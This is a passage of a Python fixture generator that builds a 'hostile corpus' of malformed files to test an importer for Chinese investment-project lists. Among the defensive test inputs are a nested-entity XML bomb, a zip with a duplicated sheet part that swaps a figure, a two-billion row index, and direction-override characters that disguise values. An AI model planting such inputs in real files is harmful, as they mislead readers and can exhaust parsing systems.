        "丁项目,江苏省苏州市,1000,45292.5至46387")).encode())
    # A subtotal row whose amount is a formula without a saved result (openpyxl writes none).

    save_sheet(HERE / "subtotal_formula.xlsx", None, [
        head, ["甲项目", "江苏省苏州市", 1000, "2024-2026"], ["乙项目", "江苏省苏州市", 2000, "2024-2026"],
        ["小计", None, "=SUM(C2:C3)", None], ["丙项目", "江苏省苏州市", "=1000+500", "2024-2026"],
        ["合计", None, "=C4+C5", None]])
    # A web page's table (.html, .htm) with an amount spanning two projects' rows; XML Spreadsheet's MergeDown.
    page = ("<!DOCTYPE html><html><head><meta charset=\"gbk\"><title>重大项目</title></head><body><table border=1>"
            "<tr><th>项目名称</th><th>建设地点</th><th>总投资（万元）</th><th>建设起止年限</th></tr>"
            "<tr><td>甲项目一期</td><td rowspan=\"2\">江苏省苏州市</td><td rowspan=\"2\">3000</td>"
            "<td>2024-2026</td></tr>"
            "<tr><td>甲项目二期</td><td>2025-2027</td></tr>"
            "<tr><td>乙项目</td><td>江苏省南京市</td><td>1500</td><td rowspan=\"3\">2024-2026</td></tr>"
            "</table></body></html>")
    (HERE / "rowspan_amounts.html").write_bytes(page.encode("gbk"))
    (HERE / "rowspan_amounts.htm").write_bytes(page.replace("gbk", "utf-8").encode())
    (HERE / "web_page_no_table.html").write_bytes(b"<!DOCTYPE html><html><body><p>\xe6\x97\xa0</p></body></html>")
    ns = 'xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"'
    cells = "".join(f"<Cell><Data ss:Type=\"String\">{h}</Data></Cell>" for h in head)
    (HERE / "mergedown_amounts.xml").write_bytes((
        f'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook {ns}><Worksheet ss:Name="清单">'
        f"<Table><Row>{cells}</Row>"
        '<Row><Cell><Data ss:Type="String">甲项目一期</Data></Cell>'
        '<Cell><Data ss:Type="String">江苏省苏州市</Data></Cell>'
        '<Cell ss:MergeDown="1"><Data ss:Type="Number">3000</Data></Cell><Cell><Data ss:Type="String">2024-2026</Data>'
        '</Cell></Row><Row><Cell><Data ss:Type="String">甲项目二期</Data></Cell>'
        '<Cell><Data ss:Type="String">江苏省苏州市'
        '</Data></Cell><Cell ss:Index="4"><Data ss:Type="String">2025-2027</Data></Cell></Row>'
        "</Table></Worksheet></Workbook>").encode())
    # Real names in traditional characters and rare characters of given names, in GBK and in UTF-8.
    rows = [f"{name},江苏省苏州市,1000,2024-2026" for name in _rare_gbk_names()]
    (HERE / "rare_gbk_names.csv").write_bytes((_HEAD8 + _lines8(*rows)).encode("gbk"))
    (HERE / "rare_gbk_names_utf8.csv").write_bytes((_HEAD8 + _lines8(*rows)).encode())
    # 東 (96 7C) first in a line otherwise GB2312: read as "–|莞" before.
    (HERE / "traditional_gbk.csv").write_bytes((_HEAD8 + _lines8(
        "東莞项目,广东省东莞市,1000,2024-2026", "广东项目,廣東省东莞市,1000,2024-2026",
        "時代项目,江苏省苏州市,1000,2024-2026",
        "华昇新材料项目,江苏省苏州市,1000,2024-2026", "旻泰科技园,江苏省苏州市,1000,2024-2026")).encode("gbk"))
# ------------------------------------------------------------------------------- hostile corpus, round 9
# Classes a ninth round reached (s29-hostile9; tests/test_import_hostile9.py). The wide CSV is made by its test.

_HEAD9 = HEAD
_ROW9 = ["苏州晶圆封装项目", "江苏省苏州市", 150000, "2024-2026"]


def _book9(rows: list[list], title: str = "项目") -> object:
    return workbook(rows, title)


def write_hostile9() -> None:
    import re

    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont
    from openpyxl.chart import BarChart, Reference
    from openpyxl.worksheet.datavalidation import DataValidation

    # Text-direction overrides in value cells: \u202e0001 shows 1000 (stored 1万元), 江苏省\u202e市州扬 shows
    # 江苏省扬州市 (the city lost); a name's (the characters as typed, said) is no value.
    (HERE / "direction_override_values.csv").write_bytes((_HEAD9 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "扬州项目,江苏省\u202e市州扬,1000,2024-2026",
        "泰州项目,江苏省泰州市,\u202e0001,2024-2026", "镇江项目,江苏省镇江市,1000,\u20662024-2026\u2069")).encode())
    # Forms that read alike: a CJK compatibility ideograph (U+F9DC for 隆), a decomposed accent, a tag character.
    (HERE / "names_composed.csv").write_bytes((_HEAD9 + _lines8(
        "\uf9dc基光伏项目,陕西省西安市,1000,2024-2026", "Cafe\u0301 苏州项目,江苏省苏州市,1000,2024-2026",
        "常州\U000e0041项目,江苏省常州市,1000,2024-2026")).encode())
    # The list's own numbers and bullets typed into the name cell; figures that begin a name stay.
    (HERE / "numbered_names.csv").write_bytes((_HEAD9 + _lines8(
        "1.苏州晶圆封装项目,江苏省苏州市,1000,2024-2026", "（二）南京生物医药中心,江苏省南京市,1000,2024-2026",
        "3、无锡储能项目,江苏省无锡市,1000,2024-2026", "★常州充电桩项目,江苏省常州市,1000,2024-2026",
        "④扬州新材料项目,江苏省扬州市,1000,2024-2026", "2024年泰州光伏项目,江苏省泰州市,1000,2024-2026",
        "1.5万吨镇江锂电材料项目,江苏省镇江市,1000,2024-2026", "5G宿迁基站项目,江苏省宿迁市,1000,2024-2026")).encode())
    # A name wrapped by hand inside its cell (Alt+Enter): read with a space between the characters.
    (HERE / "name_line_break.csv").write_bytes((_HEAD9 + '"苏州晶圆\n封装项目",江苏省苏州市,150000,2024-2026\n'
                                                '"南京生物医药\r\n中心（一期）",江苏省南京市,80000,2024-2027\n'
                                                '"Wafer\nplant 无锡",江苏省无锡市,1000,2024-2026\n').encode())
    # Names of symbols or emoji only; emoji beside words stay.
    (HERE / "symbol_names.csv").write_bytes((_HEAD9 + _lines8(
        "🚀苏州晶圆封装项目,江苏省苏州市,1000,2024-2026", "🔥🔥🔥,江苏省南京市,1000,2024-2026",
        "★☆★,江苏省无锡市,1000,2024-2026")).encode())
    # Amounts as they are said aloud: 1.5个亿, 一个亿, 3个亿元.
    (HERE / "measure_word_amounts.csv").write_bytes(("项目名称,建设地点,总投资\n" + _lines8(
        "甲项目,江苏省苏州市,1.5个亿", "乙项目,江苏省南京市,一个亿", "丙项目,江苏省无锡市,3个亿元")).encode())
    # DOS's end-of-file mark after the last line.
    (HERE / "ctrl_z_end.csv").write_bytes((_HEAD9 + _ROWS7[0] + "\n" + _ROWS7[1] + "\n\x1a").encode())
    # The header again in English under the Chinese one.
    (HERE / "bilingual_header.csv").write_bytes((_HEAD9 + _lines8(
        "Project name,Location,Total investment (10k yuan),Construction period", _ROWS7[0])).encode())
    # An NBS 2018 code in the sector column (1.1.1, 3.1.2 先进钢铁材料).
    (HERE / "nbs_sector_codes.csv").write_bytes(("项目名称,建设地点,总投资（万元）,所属领域\n" + _lines8(
        "甲项目,江苏省苏州市,1000,1.1.1", "乙项目,江苏省苏州市,1000,3.1.2 先进钢铁材料", "丙项目,江苏省苏州市,1000,5.1",
        "丁项目,江苏省苏州市,1000,4", "戊项目,江苏省苏州市,1000,9.9.9")).encode())
    # A repeated header over a hidden column (the old figure) and a visible one; a hidden amount column alone.
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "总投资（万元）", "建设起止年限"],
                   ["苏州晶圆封装项目", "江苏省苏州市", 999, 150000, "2024-2026"]])
    book.active.column_dimensions["C"].hidden = True
    book.save(HERE / "hidden_twin_column.xlsx")
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "建设起止年限"], _ROW9])
    book.active.column_dimensions["C"].hidden = True
    book.save(HERE / "hidden_amount_column.xlsx")
    # A withdrawn project struck through, as stewards mark one: imported unsaid.
    from openpyxl.styles import Font

    book = _book9([["项目名称", "建设地点", "总投资（万元）", "建设起止年限"], _ROW9,
                   ["南京生物医药中心", "江苏省南京市", 80000, "2024-2027"],
                   ["无锡储能项目", "江苏省无锡市", 1000, "2024-2026"]])
    for cell in book.active[3]:
        cell.font = Font(strike=True)
    book.active["A4"].font = Font(strike=True)  # one struck cell is no struck row
    book.save(HERE / "struck_row.xlsx")
    # Read right already (kept as the round's record): rich-text runs in a cell, a data-validation list, a chart
    # sheet first, dates of the 1904 system, ISO date cells (t="d"), a CR-only file, a TSV with quoted tabs.
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]])
    book.active.append([CellRichText(["苏州", TextBlock(InlineFont(b=True), "晶圆"), "封装项目"]), "江苏省苏州市",
                        150000, "2024-2026"])
    book.save(HERE / "rich_text_runs.xlsx")
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "建设阶段"], [*_ROW9[:3], "在建"]])
    rule = DataValidation(type="list", formula1='"在建,新开工,竣工,前期"', allow_blank=True)
    book.active.add_data_validation(rule)
    rule.add("D2:D1048576")
    book.save(HERE / "data_validation_list.xlsx")
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "建设起止年限"], _ROW9], "清单")
    chart = BarChart()
    chart.add_data(Reference(book["清单"], min_col=3, min_row=1, max_row=2), titles_from_data=True)
    book.create_chartsheet("图表", 0).add_chart(chart)
    book.save(HERE / "chartsheet_first.xlsx")
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "开工时间", "竣工时间"],
                   ["苏州晶圆封装项目", "江苏省苏州市", 150000, dt.datetime(2024, 3, 1), dt.datetime(2026, 12, 31)]])
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book.epoch = CALENDAR_MAC_1904
    book.save(HERE / "dates_1904.xlsx")
    plain = io.BytesIO()
    _book9([["项目名称", "建设地点", "总投资（万元）", "开工时间", "竣工时间"],
            ["苏州晶圆封装项目", "江苏省苏州市", 150000, "x", "y"]]).save(plain)
    with zipfile.ZipFile(plain) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r'<c r="D2"[^>]*>.*?</c>', '<c r="D2" t="d"><v>2024-03-01T00:00:00</v></c>', sheet)
    parts["xl/worksheets/sheet1.xml"] = re.sub(r'<c r="E2"[^>]*>.*?</c>', '<c r="E2" t="d"><v>2026-12-31</v></c>',
                                               sheet).encode()
    (HERE / "iso_date_cells.xlsx").write_bytes(_zip(parts))
    (HERE / "cr_only.csv").write_bytes((_HEAD9 + _lines8(*_ROWS7)).replace("\n", "\r").encode("gbk"))
    (HERE / "tsv_quoted_tabs.tsv").write_bytes(
        "项目名称\t建设地点\t总投资（万元）\t建设内容\n苏州晶圆封装项目\t江苏省苏州市\t150000\t\"建设\t厂房\"\n".encode())


def write_leftovers10() -> None:
    """Round 9's classes left unfixed (s30-leftovers10)."""
    import openpyxl

    korean = ("사업명,사업위치,총사업비(억원),사업기간\n반도체 클러스터 조성사업,경기도 용인시,1200,2024-2030\n"
              "수소연료전지 발전소 건설,울산광역시 남구,850,2023-2026\n"
              "이차전지 소재 공장 증설,충청북도 청주시,430,2024-2025\n")
    japanese = "事業名,所在地,総事業費（億円）,事業期間\n半導体工場建設事業,熊本県菊陽町,1200,2024-2030\n" \
               "水素燃料電池発電所の建設,福島県浪江町,850,2023-2026\n蓄電池材料工場の増設,岡山県倉敷市,430,2024-2025\n"
    for name, text, encoding in (("korean_euc_kr.csv", korean, "euc_kr"), ("korean_utf8.csv", korean, "utf-8"),
                                 ("japanese_shift_jis.csv", japanese, "shift_jis"),
                                 ("japanese_euc_jp.csv", japanese, "euc_jp"),
                                 ("japanese_iso2022.csv", japanese, "iso2022_jp")):
        (HERE / name).write_bytes(text.encode(encoding))
    rows = _HEAD8 + _lines8("苏州晶圆封装项目,江苏省苏州市,150000,2024-2026",
                            "南京生物医药中心,江苏省南京市,80000,2024-2027")
    (HERE / "hz_gb2312.csv").write_bytes(rows.encode("hz"))
    (HERE / "nel_line_ends.csv").write_bytes(rows.replace("\n", "\u0085").encode())
    (HERE / "line_separator_ends.csv").write_bytes(rows.replace("\n", "\u2028").encode("utf-16"))
    # A 其中 breakdown going on in indented rows without 其中 (spaces, ideographic spaces); a flat one stays.
    (HERE / "indented_parts.csv").write_bytes(("序号," + _HEAD8 + _lines8(
        "1,苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", ",  其中：一期工程,江苏省苏州市,80000,2024-2025",
        ",    二期工程,江苏省苏州市,50000,2025-2026", ",\u3000\u3000三期工程,江苏省苏州市,20000,2025-2026",
        "2,南京生物医药中心,江苏省南京市,80000,2024-2027", ",    配套工程,江苏省南京市,6000,2024-2027")).encode("gbk"))
    # Three years chained as a range; two serial dates with a slash.
    (HERE / "year_chains.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1000,2024-2026-2028", "乙项目,江苏省苏州市,1000,2024年～2026年～2028年",
        "丙项目,江苏省苏州市,1000,45292/46387", "丁项目,江苏省苏州市,1000,2024-2026")).encode())
    # Stage words: mapped (with sources in the taxonomy), outside the stage list, negated.
    words = ["缓建", "已签约", "停建", "储备", "谋划", "未开工", "暂缓开工", "在谈", "试生产", "停工", "立项",
             "招商洽谈"]
    (HERE / "stage_words.csv").write_bytes(("项目名称,建设地点,总投资（万元）,建设阶段\n" + _lines8(
        *(f"项目{i + 1},江苏省苏州市,1000,{w}" for i, w in enumerate(words)))).encode())
    # Dots grouping thousands: several groups make the column's 1.500 thousands too; alone, 1.500 is 1.5.
    (HERE / "dot_thousands.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1.500,2024-2026", "乙项目,江苏省苏州市,12.500.000,2024-2026",
        "丙项目,江苏省苏州市,2.5,2024-2026", "丁项目,江苏省苏州市,3.250万元,2024-2026")).encode())
    (HERE / "dot_decimal.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,1.500,2024-2026", "乙项目,江苏省苏州市,2.5,2024-2026")).encode())
    # Traditional names with characters that are standard simplified ones too; a simplified file with 昇.
    (HERE / "name_variants_trad.csv").write_bytes(("項目名稱,建設地點,總投資（萬元）\n" + _lines8(
        "廣西華昇新材料項目,廣西壯族自治區南寧市,1000", "乾縣產業園項目,陝西省咸陽市,1000",
        "喆堃科技園區項目,江蘇省蘇州市,1000")).encode())
    (HERE / "name_variants_simplified.csv").write_bytes(("项目名称,建设地点,总投资（万元）\n" + _lines8(
        "广西华昇新材料项目,广西壮族自治区南宁市,1000", "南京毕昇印刷产业园,江苏省南京市,1000")).encode("gbk"))
    # Amounts hidden by a mask, in the amount column and in a free text.
    (HERE / "masked_amounts.csv").write_bytes((_HEAD8 + _lines8(
        "甲项目,江苏省苏州市,*,2024-2026", "乙项目,江苏省苏州市,***,2024-2026", "丙项目,江苏省苏州市,×××万元,2024-2026",
        "丁项目,江苏省苏州市,（略）,2024-2026", "戊项目,江苏省苏州市,1**万元,2024-2026",
        "己项目,江苏省苏州市,1000,2024-2026")).encode())
    (HERE / "masked_text_total.csv").write_bytes(("项目名称,建设地点,项目概况\n" + _lines8(
        "甲项目,江苏省苏州市,项目总投资*元，其中环保投资*元。",
        "乙项目,江苏省苏州市,项目总投资2882万元，其中环保投资50万元。",
        "丙项目,江苏省苏州市,本项目总投资40元。")).encode())
    # Places hidden by a repost in a list whose title names the province.
    (HERE / "redacted_places_title.csv").write_bytes(("江苏省2024年重点项目清单\n" + _HEAD8 + _lines8(
        "甲项目,（略）,1000,2024-2026", "乙项目,***,1000,2024-2026", "丙项目,,1000,2024-2026",
        "丁项目,苏州市,1000,2024-2026")).encode())
    # More sheets than are read (MAX_SHEETS = 200): one sheet past the limit holds a row that would be refused.
    book = openpyxl.Workbook(write_only=True)
    for i in range(205):
        sheet = book.create_sheet(f"S{i + 1}")
        sheet.append(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"])
        sheet.append([f"项目{i + 1}号", "江苏省苏州市" if i != 202 else "火星", 1000 + i, "2024-2026"])
    book.save(HERE / "sheets_past_limit.xlsx")


# ------------------------------------------------------------------------------- hostile corpus, round 10
# Classes a tenth round reached (s30-hostile10; tests/test_import_hostile10.py).

_HEAD10 = HEAD


_html10 = html_export


def write_hostile10() -> None:
    import warnings

    # A workbook holding its sheet part twice (a zip allows it): the zip reader took the second copy (999).
    plain = io.BytesIO()
    _book9([["项目名称", "建设地点", "总投资（万元）"], ["苏州晶圆封装项目", "江苏省苏州市", 150000]]).save(plain)
    with zipfile.ZipFile(plain) as z:
        parts = [(n, z.read(n)) for n in z.namelist()]
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as z:
        warnings.simplefilter("ignore")  # "Duplicate name": the point of the file
        for name, data in parts:
            z.writestr(name, data)
            if name == "xl/worksheets/sheet1.xml":
                z.writestr(name, data.replace(b"150000", b"999"))
    (HERE / "workbook_part_twice.xlsx").write_bytes(out.getvalue())
    # An HTML export (.xls) with a row and a column Excel hides (display:none): the hidden row was imported
    # unsaid, the hidden column's old figure (999) read before its visible twin.
    (HERE / "html_hidden_parts.xls").write_bytes(_html10(
        '<table><tr><td colspan="4">苏州市2024年重点项目</td></tr>'
        '<tr><td>项目名称</td><td style="display:none">总投资（亿元）</td><td>建设地点</td>'
        "<td>总投资<br>（亿元）</td></tr>"
        '<tr><td>苏州晶圆封装项目</td><td style="display:none">999</td><td>江苏省苏州市</td><td>15</td></tr>'
        '<tr style="display:none"><td>旧项目</td><td style="display:none">1</td><td>江苏省苏州市</td>'
        "<td>2</td></tr>"
        '<tr><td>南京生物医药中心</td><td style="display:none">1</td><td>江苏省南京市</td><td>8</td>'
        "</tr></table>").encode())
    # A printed report pasted page by page into a sheet: the title and header again over each page.
    rows: list[list] = [["苏州市2024年重点项目表"], ["项目名称", "建设地点", "总投资（万元）"]]
    for page in range(1, 4):
        rows += [[f"苏州项目{page}-{k}", "江苏省苏州市", 1000 * page + k] for k in range(2)]
        rows += [[f"第{page}页"], ["苏州市2024年重点项目表"], ["项目名称", "建设地点", "总投资（万元）"]]
    _book9(rows).save(HERE / "printed_title_pages.xlsx")
    # The list pasted twice side by side: the right table's projects were lost with a column warning.
    (HERE / "side_by_side.csv").write_bytes((
        "项目名称,建设地点,总投资（万元）,,项目名称,建设地点,总投资（万元）\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,,南京生物医药中心,江苏省南京市,80000",
        "无锡储能项目,江苏省无锡市,1000,,常州电池项目,江苏省常州市,2000")).encode())
    # A short name and the full name, each under 项目名称: the short one was stored.
    (HERE / "full_name_column.csv").write_bytes(("项目名称,项目名称（全称）,建设地点,总投资（万元）\n" + _lines8(
        "晶圆封装,苏州晶圆级先进封装测试项目,江苏省苏州市,150000")).encode())
    # The same project twice in a file with another start year (an old row left beside the corrected one), and
    # a list imported again with a start year corrected: each a second project, unsaid.
    (HERE / "name_other_year.csv").write_bytes((_HEAD10 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "南京生物医药中心,江苏省南京市,80000,2024-2027",
        "苏州晶圆封装项目,江苏省苏州市,160000,2025-2027")).encode())
    (HERE / "reimport_base.csv").write_bytes((_HEAD10 + _lines8(*_ROWS7)).encode())
    (HERE / "reimport_year_changed.csv").write_bytes((_HEAD10 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "南京生物医药中心,江苏省南京市,90000,2025-2027")).encode())
    # A note written into a header cell (600 characters): the amount column was left out unsaid.
    note = "含征地拆迁费用及建设期利息，" * 40
    (HERE / "header_note_long.csv").write_bytes((
        f"项目名称,建设地点,总投资（亿元）（注：{note}）,建设起止年限\n"
        "苏州晶圆封装项目,江苏省苏州市,15,2024-2026\n").encode())
    # Amounts with 约合 / 将近 / 接近, and 零点五亿: "not an amount".
    (HERE / "approx_words.csv").write_bytes(("项目名称,建设地点,总投资\n" + _lines8(
        "甲项目,江苏省苏州市,约合5亿元", "乙项目,江苏省苏州市,将近5亿元", "丙项目,江苏省苏州市,接近3000万元",
        "丁项目,江苏省苏州市,零点五亿")).encode())
    # Years typed into cells formatted as dates (2024 shows 1905-07-16); 2026/27 (its end year was lost).
    book = _book9([["项目名称", "建设地点", "总投资（万元）", "开工年份", "竣工年份"],
                   ["苏州晶圆封装项目", "江苏省苏州市", 150000, 2024, 2026]])
    for ref in ("D2", "E2"):
        book.active[ref].number_format = "yyyy-mm-dd"
    book.save(HERE / "year_date_format.xlsx")
    (HERE / "slash_short_years.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,江苏省苏州市,1000,2026/27", "乙项目,江苏省苏州市,1000,2026/12",
        "丙项目,江苏省苏州市,1000,2024年/26年")).encode())
    # Places: 海南州 (Qinghai's prefecture, read as Hainan province), a city of another province or an unknown
    # county after a province (its city dropped unsaid), levels split by >.
    (HERE / "place_prefecture_chain.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,海南州,1000,2024-2026", "乙项目,青海省海南州,1000,2024-2026", "丙项目,海南省海南州,1000,2024-2026",
        "丁项目,四川省达县,1000,2024-2026", "戊项目,江苏省>苏州市>昆山市,1000,2024-2026",
        "己项目,海南省海口市,1000,2024-2026")).encode())
    # A project whose name ends in its stage in brackets, in a list of three columns: taken for a heading.
    (HERE / "stage_in_name.csv").write_bytes(("项目名称,建设地点,总投资（万元）\n" + _lines8(
        "甲项目,江苏省苏州市,1000", "苏州晶圆封装项目（续建）,江苏省苏州市,2000",
        "南京生物医药中心（新开工）,江苏省南京市,3000", "无锡储能项目,江苏省无锡市,4000")).encode())
    # An XML spreadsheet with a DTD of nested entities: read as a comma-separated text (its lines a header).
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdef", "bcdefg", strict=True))
    (HERE / "spreadsheetml_dtd.xml").write_bytes((
        f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:'
        'spreadsheet"><Worksheet ss:Name="项目"><Table><Row><Cell><Data ss:Type="String">项目名称</Data></Cell>'
        '<Cell><Data ss:Type="String">建设地点</Data></Cell></Row><Row><Cell><Data ss:Type="String">&g;</Data></Cell>'
        '<Cell><Data ss:Type="String">江苏省苏州市</Data></Cell></Row></Table></Worksheet></Workbook>').encode())
    # 总投资（万元） and 总投资（亿元）, each project's figure in one of them: the second column's were lost.
    (HERE / "twin_unit_columns.csv").write_bytes(("项目名称,建设地点,总投资（万元）,总投资（亿元）\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,,15", "南京生物医药中心,江苏省南京市,80000,",
        "无锡储能项目,江苏省无锡市,1000,0.1")).encode())
    # Read right already (kept as the round's record).
    (HERE / "bom_sep_line.csv").write_bytes(b"\xef\xbb\xbfsep=;\r\n" + _HEAD10.replace(",", ";").encode()
                                            + "苏州晶圆封装项目;江苏省苏州市;150000;2024-2026\r\n".encode())
    (HERE / "mixed_line_ends.csv").write_bytes((
        _HEAD10.replace("\n", "\r\n") + "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026\n"
        "南京生物医药中心,江苏省南京市,80000,2024-2027\r").encode())
    (HERE / "thin_space_thousands.csv").write_bytes((
        _HEAD10 + "苏州晶圆封装项目,江苏省苏州市,1\u2009500\u202f000,2024-2026\n"
        "南京生物医药中心,江苏省南京市,１５０，０００．５,２０２４－２０２７\n").encode())
    _workbook6(HERE / "formula_kinds.xlsx", [("项目", _sheet6([
        (1, ["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]),
        (2, ["苏州晶圆封装项目", "江苏省苏州市", ("", '<f t="array" ref="C2:C3">{150000;80000}</f><v>150000</v>'),
             "2024-2026"]),
        (3, ["南京生物医药中心", "江苏省南京市", ("", "<f>[1]Sheet1!C3</f><v>80000</v>"), "2024-2027"])]))])


def write_leftovers11() -> None:
    """Round 10's classes left unfixed (s31-leftovers11)."""

    # A list imported again with one amount changed (reimport_base.csv is the first import).
    (HERE / "reimport_amount_changed.csv").write_bytes((_HEAD10 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,160000,2024-2026", "南京生物医药中心,江苏省南京市,80000,2024-2027")).encode())
    # Regions across cities or provinces, typos one character off, a bracket naming another place.
    (HERE / "place_regions.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,苏锡常,1000,2024-2026", "乙项目,长三角,1000,2024-2026", "丙项目,京津冀,1000,2024-2026",
        "丁项目,苏南,1000,2024-2026", "戊项目,珠三角,1000,2024-2026", "己项目,成渝,1000,2024-2026",
        "庚项目,江苏省苏州市,1000,2024-2026")).encode())
    (HERE / "place_typos.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,江苏剩苏州市,1000,2024-2026", "乙项目,江苏省苏洲市,1000,2024-2026", "丙项目,苏洲,1000,2024-2026",
        "丁项目,苏州（宿州）,1000,2024-2026", "戊项目,江苏省苏州市,1000,2024-2026")).encode())
    # Negative amounts as accounts and clerks write them; amounts with no figure; apostrophe and underscore groups.
    (HERE / "amount_negative_marks.csv").write_bytes(("项目名称,建设地点,总投资（万元）\n" + _lines8(
        "甲项目,江苏省苏州市,△500", "乙项目,江苏省苏州市,▲500", "丙项目,江苏省苏州市,500-", "丁项目,江苏省苏州市,负500",
        "戊项目,江苏省苏州市,(500)", "己项目,江苏省苏州市,-500", "庚项目,江苏省苏州市,1000")).encode())
    (HERE / "amount_vague_grouped.csv").write_bytes(("项目名称,建设地点,总投资\n" + _lines8(
        "甲项目,江苏省苏州市,上亿元", "乙项目,江苏省苏州市,数亿元", "丙项目,江苏省苏州市,几千万",
        "丁项目,江苏省苏州市,1'500'000", "戊项目,江苏省苏州市,1_500_000", "己项目,江苏省苏州市,2000万元")).encode())
    # Every line quoted whole as one cell, as some exports write a text column.
    lines = [_HEAD10.strip(), "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026",
             "南京生物医药中心,江苏省南京市,80000,2024-2027"]
    (HERE / "lines_quoted_whole.csv").write_bytes("".join(f'"{line}"\r\n' for line in lines).encode("gbk"))
    # A header merged over two columns (the second's header cell empty): its amounts were an unmapped column 3.
    save_sheet(HERE / "header_merged_two.xlsx", None, [
        ["项目名称", "建设地点", "总投资（万元）", None, "建设起止年限"],
        ["苏州晶圆封装项目", "江苏省苏州市", 150000, None, "2024-2026"],
        ["南京生物医药中心", "江苏省南京市", None, 80000, "2024-2027"]], ("C1:D1",))
    # Notes in amount cells, a slash year out of range, an undeclared entity, withdrawn marks in names.
    (HERE / "amount_notes.csv").write_bytes((_HEAD10 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000（其中中央资金5000）,2024-2026",
        "南京生物医药中心,江苏省南京市,80000(含土地款),2024-2027", "无锡储能项目,江苏省无锡市,1000,2026/13",
        "常州电池&b;项目,江苏省常州市,2000,2024-2026")).encode())
    (HERE / "withdrawn_names.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,江苏省苏州市,1000,2024-2026", "乙项目（已撤销）,江苏省苏州市,2000,2024-2026",
        "丙项目（已取消）,江苏省苏州市,3000,2024-2026", "丁项目（取消）,江苏省苏州市,4000,2024-2026",
        "戊项目(撤销),江苏省苏州市,5000,2024-2026")).encode())
    # Free-text totals whose figure a repost lost or masked.
    (HERE / "text_total_lost.csv").write_bytes(("项目名称,建设地点,项目概况\n" + _lines8(
        "甲项目,四川省德阳市,项目总投资万元，其中环保投资万元。", "乙项目,四川省德阳市,项目总投资***万元。",
        "丙项目,四川省德阳市,项目总投资2882万元，其中环保投资50万元。")).encode())
    # Siblings: the same classes in other spellings (a region after its province, bounds with no figure, a dot
    # before the number, square brackets round the withdrawn mark, a note after an amount with its unit).
    (HERE / "leftovers11_siblings.csv").write_bytes(("项目名称,建设地点,总投资,建设起止年限\n" + _lines8(
        "甲项目,江苏省苏锡常地区,上千万元,2024-2026", "乙项目,长三角地区,数十亿元,2026.13",
        "丙项目,江苏省苏州市,亿元以上,2024-2026",
        "丁项目【已撤销】,江苏省苏州市,15亿元（其中中央预算内资金2亿元）,2024-2026",
        "戊项目（已终止）,江苏省苏州市,（500）,2024-2026", "己项目,江苏省苏州市,过亿,2024-2026",
        "庚项目,成渝地区双城经济圈,△1.5亿元,2024-2026", "辛项目,江苏省无锡市,－500,2024-2026")).encode())
    # An industry-class column (GB/T 4754) under 行业类别.
    (HERE / "industry_class_column.csv").write_bytes(("项目名称,建设地点,总投资（万元）,行业类别\n" + _lines8(
        "某煤矿洗选项目,山西省大同市,1000,061 烟煤和无烟煤开采洗选",
        "苏州电子材料项目,江苏省苏州市,2000,C3985 电子专用材料制造",
        "南京生物医药中心,江苏省南京市,3000,2720 化学药品制剂制造")).encode())


# ------------------------------------------------------------------------------- hostile corpus, round 11
# Classes an eleventh round reached (s31-hostile11; tests/test_import_hostile11.py): English lists, a sheet copied
# with edits, OA and PDF exports, OCR, WPS pictures, template rows, ditto marks, rows past Excel's last.

_HEAD11 = HEAD
_BASE11 = [["项目名称", "建设地点", "总投资（万元）", "建设起止年限"],
           ["苏州晶圆封装项目", "江苏省苏州市", 150000, "2024-2026"],
           ["南京生物医药中心", "江苏省南京市", 80000, "2024-2027"]]


def _xlsx11(rows: list[list]) -> bytes:
    return xlsx_bytes(_book9(rows))


def write_hostile11() -> None:
    # A sheet copied (项目表 (2), as Excel names a copy) and one figure edited in the copy: the copy was left out
    # as "the same projects", its 160000 lost unsaid (which sheet is current the file cannot tell).
    book = _book9(_BASE11, "项目表")
    copy = book.copy_worksheet(book.active)
    copy.title = "项目表 (2)"
    copy["C2"] = 160000
    book.save(HERE / "sheet_copy_edited.xlsx")
    # A row numbered 2,000,000,000 (Excel's last is 1,048,576): openpyxl yields every empty row up to it.
    sheet = _sheet6([(1, ["项目名称", "建设地点", "总投资（万元）"]),
                     (2, ["苏州晶圆封装项目", "江苏省苏州市", 150000])])
    sheet = sheet.replace('<row r="2">', '<row r="2000000000">')
    for col in "ABC":
